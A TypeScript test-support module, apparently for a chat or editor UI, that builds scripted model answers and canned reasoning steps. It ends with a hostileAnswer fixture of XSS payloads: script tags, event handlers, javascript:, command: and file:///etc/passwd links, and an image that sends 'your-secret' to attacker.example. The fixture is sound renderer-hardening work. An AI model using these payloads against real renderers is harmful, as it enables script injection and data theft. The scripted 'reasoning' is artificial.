/** Puts scripted answers together: finds what is asked, about which code, and picks the next variant of that kind. */
import { variants, type AnswerKind, type Topic } from './answerTexts.ts';
import { proseOf } from './cues.ts';
import type { SimulatedModel } from './models.ts';

type Style = SimulatedModel['style'];

const keywords: Record<Exclude<AnswerKind, 'general'>, RegExp> = {
  test: /\b(unit )?tests?\b/i,
  explain: /\bexplain|\bwhat does\b|\bhow does\b/i,
  fix: /\bfix|\bbug\b|\berror\b|\bbroken\b/i,
  refactor: /\brefactor|\bclean up\b|\bsimplify/i,
  document: /\bdocument|\bdocstring|\bjsdoc/i,
  review: /\breview/i,
};

/** The scripted answer to a question: Markdown, in the language of the pasted code, longer or shorter by style. */
export function composeAnswer(question: string, style: Style, variant: number): string {
  const kind = kindOf(question);
  const choices = variants[kind];
  const sections = choices[variant % choices.length]?.(topicOf(question)) ?? [];
  const kept = style === 'brief' ? sections.slice(0, 2) : style === 'balanced' ? sections.slice(0, 4) : sections;
  return kept.join('\n\n');
}

/** What the model thought before it answered; a short paragraph for each step. */
export function composeReasoning(question: string, style: Style): string {
  const { name, language, code } = topicOf(question);
  const lines = code.split('\n').length;
  const steps = [
    `The question is about \`${name}\`: ${lines} line${lines === 1 ? '' : 's'} of ${language}. First, what goes in and what comes out.`,
    'The ordinary path is clear. What about an empty input, a missing value, or the same call twice at once?',
    'One more check: would the change alter what callers see today? Only the error case, and that is the point of it.',
    'I will lead with the answer, show the code once, and name the one assumption that I could not check.',
  ];
  return steps.slice(0, style === 'brief' ? 2 : steps.length).join('\n\n');
}

/** The earliest keyword outside the pasted code decides. */
function kindOf(question: string): AnswerKind {
  const prose = proseOf(question);
  let found: { kind: AnswerKind; at: number } = { kind: 'general', at: Infinity };
  for (const [kind, pattern] of Object.entries(keywords)) {
    const at = prose.search(pattern);
    if (at >= 0 && at < found.at) found = { kind: kind as AnswerKind, at };
  }
  return found.kind;
}

const sampleCode = `export function total(items: Item[]): number {
  return items.reduce((sum, item) => sum + item.price * item.quantity, 0);
}`;

function topicOf(question: string): Topic {
  const fence = /```([\w+#-]*)[^\n]*\n([\s\S]*?)```/.exec(question);
  const code = fence?.[2]?.trimEnd() || sampleCode;
  const named = /\b(?:function\*?|def|class|fn|func|interface|type|struct|const|let|var)\s+([A-Za-z_]\w*)/.exec(code);
  return { code, language: fence?.[1] || (fence ? 'text' : 'ts'), name: named?.[1] ?? 'this code' };
}

/** Plain text of exactly so many characters (ASCII), in numbered lines, so that a missing piece is seen at once. */
export function longAnswer(characters: number): string {
  let text = '# A long answer\n';
  for (let line = 1; text.length < characters; line += 1) {
    text += `\n${line}. The quick brown fox reads \`line ${line}\` and jumps to the next one.`;
  }
  return text.slice(0, characters);
}

/** Everything that a hostile model might try on the reader's editor; shown harmlessly, or it is a bug. */
export const hostileAnswer = `# Hostile answer

None of what follows may run, load or open anything.

<script>window.__hostile = 'script ran'</script>
<img src="x" onerror="window.__hostile = 'event handler ran'">
<svg onload="window.__hostile = 'svg ran'"><circle r="9"/></svg>
<iframe src="https://attacker.example/frame"></iframe>
<a href="javascript:window.__hostile='html link'">an HTML link</a>
<style>body { display: none }</style>
<form action="https://attacker.example/form"><button>Sign in again</button></form>

- [a javascript link](javascript:alert(document.domain))
- [a disguised one](JaVaScRiPt&colon;alert(1))
- [a command link](command:workbench.action.terminal.new)
- [a vscode link](vscode://file/etc/passwd)
- [a file link](file:///etc/passwd)
- [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- an ordinary link that should still work: [example.com](https://example.com/)

![a remote image that would leak what you typed](https://attacker.example/pixel.png?stolen=your-secret)
![a data image](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)

| cell | <b onmouseover="alert(1)">hover</b> |
|---|---|
| \`<script>\` in code | <script>alert(2)</script> |

\`\`\`html
<script>alert('in a fence this is only text')</script>
\`\`\`

An unclosed fence comes last:

\`\`\`js"><img src=x onerror=alert(3)>
const harmless = '</code></pre><script>alert(4)</script>';
`;
